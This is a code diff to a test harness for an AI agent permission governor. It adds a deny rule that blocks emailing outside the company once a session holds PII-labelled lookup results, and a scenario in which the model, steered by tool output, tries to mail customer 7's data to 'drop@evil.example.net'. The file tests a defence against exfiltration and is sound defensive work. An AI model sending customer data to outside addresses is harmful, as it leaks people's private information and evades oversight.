@@ -55,6 +55,18 @@ permissions:
 """
 
 
+EXFILTRATION_POLICY = """\
+agent: researcher
+permissions:
+  allow: ["tool:lookup", "tool:send_email"]
+  deny:
+    - action: "tool:send_email"
+      condition: '"pii" in session.labels && !to.endsWith("@example.com")'
+labels:
+  "tool:lookup": [pii]
+"""
+
+
 class Scene:
     """One scenario's world: a governor in its own folder, tools that leave side effects, a results dict."""
 
@@ -201,6 +213,18 @@ def hook_scenarios(root: Path, path: str) -> dict[str, Any]:
         third = kickoff(path, [s.tools["send_email"]], mail)
         third.update(s.summary())
     out["escalated"] = {"first": first, "after_approval": again, "grant_used_up": third}
+
+    # Data-flow labels (issue 20): the lookup's output carries customer data (label pii); the model, steered
+    # by it, then mails it outside. Each call is allowed on its own; the session's label denies the mail.
+    s = Scene(root, f"exfiltration-{path}")
+    (s.dir / "policies" / "researcher.yaml").write_text(EXFILTRATION_POLICY)
+    s.gov.reload_policies()
+    with enabled(s.gov):
+        out["exfiltration"] = kickoff(path, [s.tools["lookup"], s.tools["send_email"]], [
+            ("lookup", {"query": "customer 7"}),
+            ("send_email", {"to": "drop@evil.example.net", "body": "LOOKUP-RESULT for customer 7"}),
+            ("send_email", {"to": "team@example.com", "body": "looked up customer 7"})])
+    out["exfiltration"].update(s.summary())
 
     s = Scene(root, f"escalation-wait-{path}")
     with enabled(s.gov, wait_for_approval=10):
